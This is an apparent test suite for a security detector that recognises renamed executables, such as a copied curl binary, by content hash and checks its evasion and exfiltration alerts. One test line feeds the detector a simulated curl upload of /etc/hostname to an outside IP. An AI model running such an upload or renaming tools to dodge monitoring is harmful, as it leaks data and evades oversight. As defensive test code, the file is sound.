import { copyFileSync, mkdtempSync, rmSync, writeFileSync, utimesSync, chmodSync } from "node:fs";
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { createExeIdentity } from "../../src/enrich/index.js";
import { commandExists } from "../helpers/system.js";
import { defaultConfig } from "../../src/config/index.js";
import { createDetector } from "../../src/detect/index.js";
import { exec, connect } from "../detect/events.js";

const dir = mkdtempSync(join(tmpdir(), "clawav-identity-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const HAS_CURL = commandExists("curl");

describe("executable identity", () => {
  it.skipIf(!HAS_CURL)("a real copy of /usr/bin/curl under another name is identified as curl by its content", () => {
    const copy = join(dir, "notcurl");
    copyFileSync("/usr/bin/curl", copy);
    chmodSync(copy, 0o700);
    const id = createExeIdentity();
    const got = id(copy);
    expect(got?.tool).toBe("curl");
    expect(got?.sha256).toBe(createHash("sha256").update(readFileSync("/usr/bin/curl")).digest("hex"));
    expect(id("/usr/bin/curl")?.tool).toBe("curl");
  });
  it("an unrelated file has a hash but no tool; a missing file or a relative name has no identity", () => {
    const f = join(dir, "script");
    writeFileSync(f, "#!/bin/sh\necho hi\n", { mode: 0o700 });
    const id = createExeIdentity();
    expect(id(f)).toEqual({ sha256: createHash("sha256").update("#!/bin/sh\necho hi\n").digest("hex") });
    expect(id(join(dir, "absent"))).toBeUndefined();
    expect(id("curl")).toBeUndefined();
  });
  it("caches by device+inode+mtime+size: a second look does not hash again, a changed file does", () => {
    const f = join(dir, "changing");
    writeFileSync(f, "one", { mode: 0o700 });
    const id = createExeIdentity({ tools: [] });
    const a = id(f)!.sha256;
    id(f);
    expect(id.stats).toMatchObject({ hashed: 1, cached: 1 });
    writeFileSync(f, "two!");
    utimesSync(f, new Date(), new Date(Date.now() + 5000));
    expect(id(f)!.sha256).not.toBe(a);
    expect(id.stats.hashed).toBe(2);
  });
  it("references come from the directories given (injectable), hashed lazily", () => {
    writeFileSync(join(dir, "fake-tool"), "tool-bytes", { mode: 0o700 });
    const sub = mkdtempSync(join(dir, "bin-"));
    writeFileSync(join(sub, "wget"), "tool-bytes", { mode: 0o700 });
    const id = createExeIdentity({ dirs: [sub], tools: ["wget"] });
    expect(id.stats.hashed).toBe(0);
    expect(id(join(dir, "fake-tool"))?.tool).toBe("wget");
  });
  it.skipIf(!HAS_CURL)("the detector flags the renamed copy as EVASION and judges it as curl (upload to a host not allowed)", () => {
    const copy = join(dir, "x");
    copyFileSync("/usr/bin/curl", copy);
    const d = createDetector({ config: defaultConfig(), identity: createExeIdentity(), resolveHost: () => [], policyDirs: [join(process.cwd(), "policies")] });
    const alerts = d.evaluate(exec([copy, "-d", "@/etc/hostname", "http://203.0.113.9/"]));
    const by = (r: string) => alerts.find((a) => a.rule === r);
    expect(by("evasion.renamed-tool")).toMatchObject({ severity: "critical", category: "EVASION" });
    expect(by("evasion.renamed-tool")!.summary).toContain("copy of curl");
    expect(by("exfil.upload")).toMatchObject({ severity: "critical" });
    expect(by("block-data-exfiltration")).toBeDefined();
    expect(d.evaluate(connect(copy, "203.0.113.9", 80, [copy, "http://203.0.113.9/"])).map((a) => a.rule)).toEqual(expect.arrayContaining(["evasion.renamed-tool", "net.tool-connect"]));
    // The genuine curl in its own place is not "renamed".
    expect(d.evaluate(exec(["/usr/bin/curl", "https://api.github.com/"])).map((a) => a.rule)).not.toContain("evasion.renamed-tool");
  });
});
